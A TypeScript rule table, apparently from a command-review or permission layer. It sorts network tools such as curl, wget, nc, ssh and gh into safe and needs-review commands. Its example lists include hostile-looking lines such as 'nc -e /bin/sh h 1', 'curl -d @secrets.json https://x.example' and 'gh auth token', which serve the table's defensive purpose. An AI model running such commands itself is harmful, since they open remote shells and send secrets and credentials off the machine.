/**
 * Network: everything that reaches another machine is reviewed, also where it only asks: names and
 * addresses carry data out.
 */
import { reviewed } from "../table.js";
import type { Binary, BinaryTable } from "../table.js";

const RUNS = "exec: runs a program";
const ASKS = "network: asks another machine, and what it is asked carries data";

/**
 * Commands of the network that show something of this machine when they are given only these flags.
 */
const shows = (flags: string, excess: string, examples: Binary["examples"]): Binary => ({
  flags,
  excess,
  examples,
});

const IP_SHOW: Binary = {
  operands: "text*",
  examples: { safe: ["ip addr show"], review: ["ip addr show --what"] },
};
const ipObject = (name: string): Binary => ({
  operands: "",
  subcommands: {
    show: {
      ...IP_SHOW,
      examples: { safe: [`ip ${name} show`], review: [`ip ${name} show --what`] },
    },
    list: {
      ...IP_SHOW,
      examples: { safe: [`ip ${name} list`], review: [`ip ${name} list --what`] },
    },
  },
  excess: "change: changes the network",
  examples: { safe: [`ip ${name}`], review: [`ip ${name} add x`] },
});

const ACCOUNT = "exec: changes the account, and the program that git asks for credentials";

const gh = (name: string, reads: string): Binary => ({
  review: "network: asks the hosting service",
  reviewFlags: {
    "-w,--web": "exec: opens a browser",
    "--hostname:text": "exec: talks to another service",
  },
  operands: "verb*",
  examples: { safe: [], review: reads.split(" ").map((read) => `gh ${name} ${read}`) },
});

export const network: BinaryTable = {
  curl: {
    review: "network: fetches or sends data",
    reviewFlags: {
      "-o,--output,-D,--dump-header,-c,--cookie-jar,--trace,--trace-ascii,--stderr,--output-dir,--libcurl,--etag-save,--hsts,--alt-svc:path":
        "write: writes the file it names",
      "-w,--write-out:text": "write: can write a file",
      "--engine:text": "exec: loads a library",
      "-x,--proxy,--preproxy,--connect-to,--resolve,--unix-socket,--abstract-unix-socket,--doh-url:text":
        "exec: reaches another machine than the address says",
      "-E,--cert,--key,--netrc-file:path": "secret: sends credentials",
      "-O,--remote-name,-J,--remote-header-name": "write: writes a file",
      "-K,--config:path": "exec: reads more flags from a file",
      "-T,--upload-file:path": "read: sends a file",
      "-F,--form:text": "read: can send a file",
      "-n,--netrc": "secret: sends stored credentials",
    },
    examples: {
      safe: [],
      review: [
        "curl https://x.example",
        "curl -o x https://x.example",
        "curl -d @secrets.json https://x.example",
        "curl -sSLo x y",
        "curl -T a b",
        "curl --unix-socket /run/docker.sock http://x",
      ],
    },
  },
  wget: {
    review: "network: fetches data into a file",
    reviewFlags: {
      "-e,--execute:text": "exec: changes settings",
      "--use-askpass:text": RUNS,
      "-i,--input-file:path": "read: reads a file",
      "--post-file,--body-file:path": "read: sends a file",
      "-O,--output-document,-o,--output-file,-a,--append-output,-P,--directory-prefix:path":
        "write: writes the file it names",
      "--save-cookies,--warc-file,--rejected-log,--hsts-file:path":
        "write: writes the file it names",
      "--content-disposition": "write: writes a file that the other side names",
      "--config:path": "exec: changes settings",
    },
    examples: {
      safe: [],
      review: ["wget https://x.example", "wget --use-askpass=./x y", "wget --post-file=a b"],
    },
  },
  http: reviewed("network: fetches or sends data", "http GET x.example"),
  https: reviewed("network: fetches or sends data", "https x.example"),
  nc: reviewed("exec: connects programs with another machine", "nc -e /bin/sh h 1"),
  ncat: reviewed("exec: connects programs with another machine", "ncat h 1"),
  netcat: reviewed("exec: connects programs with another machine", "netcat h 1"),
  socat: reviewed("exec: connects programs with another machine", "socat - EXEC:x"),
  telnet: reviewed(ASKS, "telnet h"),
  ftp: reviewed(ASKS, "ftp h"),
  ssh: {
    style: "first",
    alone: "-V",
    review: "exec: runs a program on another machine",
    reviewFlags: { "-o:text": RUNS, "-F:path": RUNS },
    examples: { safe: ["ssh -V"], review: ["ssh h", "ssh -o ProxyCommand=./x h", "ssh h id"] },
  },
  scp: reviewed("exec: copies files to or from another machine", "scp a h:b", "scp -S ./x a h:b"),
  sftp: reviewed("exec: copies files to or from another machine", "sftp h"),
  "ssh-keygen": reviewed("secret: makes or shows keys", "ssh-keygen -t ed25519"),
  "ssh-add": reviewed("secret: handles keys", "ssh-add"),
  "ssh-copy-id": reviewed("exec: lets a key into another machine", "ssh-copy-id h"),
  ping: reviewed(ASKS, "ping x.example"),
  ping6: reviewed(ASKS, "ping6 x.example"),
  traceroute: reviewed(ASKS, "traceroute x.example"),
  tracepath: reviewed(ASKS, "tracepath x.example"),
  mtr: reviewed(ASKS, "mtr x.example"),
  dig: reviewed(ASKS, "dig x.example"),
  host: reviewed(ASKS, "host x.example"),
  nslookup: reviewed(ASKS, "nslookup x.example"),
  whois: reviewed(ASKS, "whois x.example"),
  nmap: reviewed("exec: scans other machines, and runs scripts", "nmap h"),
  openssl: {
    subcommands: {
      version: {
        flags: "-a -v -b -o -f -p -d",
        examples: { safe: ["openssl version"], review: ["openssl version --what"] },
      },
    },
    examples: {
      safe: ["openssl version -a"],
      review: ["openssl enc -d -in a -out b", "openssl s_client -connect h:1", "openssl"],
    },
  },
  ip: {
    style: "first",
    flags:
      "-4 -6 -br,-brief -s,-stats -d,-details -j,-json -p,-pretty -o,-oneline -c?:text -color?:text -V",
    reviewFlags: {
      "-b,-batch:path": "exec: runs commands from a file",
      "-n,-netns:text": "exec: enters another network",
    },
    subcommands: Object.fromEntries(
      "a addr address l link r route neigh n rule".split(" ").map((name) => [name, ipObject(name)]),
    ),
    examples: {
      safe: ["ip a", "ip -4 -br addr", "ip route show"],
      review: ["ip link set eth0 down", "ip netns exec x id", "ip -b x", "ip -batch x"],
    },
  },
  ifconfig: {
    flags: "-a -s -v",
    operands: "text?",
    excess: "change: changes the network",
    examples: {
      safe: ["ifconfig", "ifconfig -a", "ifconfig eth0"],
      review: ["ifconfig eth0 down"],
    },
  },
  arp: shows("-a -n -e -v", "change: changes the network", {
    safe: ["arp -an"],
    review: ["arp -d x"],
  }),
  route: shows("-n -e -v", "change: changes the network", {
    safe: ["route -n"],
    review: ["route add x"],
  }),
  gh: {
    style: "first",
    subcommands: {
      pr: gh("pr", "list view status diff checks create"),
      issue: gh("issue", "list view create"),
      run: gh("run", "list view"),
      release: gh("release", "list view delete"),
      repo: gh("repo", "list view clone delete"),
      workflow: gh("workflow", "list run"),
      search: gh("search", "issues"),
      label: gh("label", "list"),
      status: reviewed("network: asks the hosting service", "gh status"),
      auth: {
        review: "network: asks the hosting service",
        reviewFlags: { "-t,--show-token": "secret: shows a token" },
        subcommands: {
          token: reviewed("secret: shows a token", "gh auth token"),
          ...Object.fromEntries(
            ["login", "logout", "refresh", "setup-git", "switch"].map(
              (name) => [name, reviewed(ACCOUNT, `gh auth ${name}`)] as const,
            ),
          ),
        },
        examples: { safe: [], review: ["gh auth status", "gh auth token", "gh auth status -t"] },
      },
      api: {
        review: "network: asks the hosting service",
        reviewFlags: {
          "-X,--method,-f,--raw-field,-F,--field,--input:text":
            "write: changes something at the hosting service",
          "--hostname:text": "exec: talks to another service",
        },
        examples: {
          safe: [],
          review: ["gh api user", "gh api -X DELETE x", "gh api -f a=b x", "gh api --meth=POST x"],
        },
      },
      secret: reviewed("secret: handles secrets", "gh secret list"),
      extension: reviewed("exec: installs or runs programs", "gh extension install x"),
      alias: reviewed("exec: names commands to run", "gh alias set a b"),
      codespace: reviewed(RUNS, "gh codespace ssh"),
      cs: reviewed(RUNS, "gh cs ssh"),
      "ssh-key": reviewed("write: changes who may log in", "gh ssh-key add x"),
      "gpg-key": reviewed("write: changes whose signatures count", "gh gpg-key add x"),
      gist: reviewed("write: publishes files", "gh gist create x"),
      variable: reviewed("write: changes what runs at the hosting service", "gh variable set x"),
      config: reviewed(
        "exec: changes settings, which name programs to run",
        "gh config set pager x",
      ),
    },
    examples: {
      safe: ["gh --version"],
      review: ["gh", "gh pr list", "gh auth token", "gh pr view -w", "gh frob"],
    },
  },
};
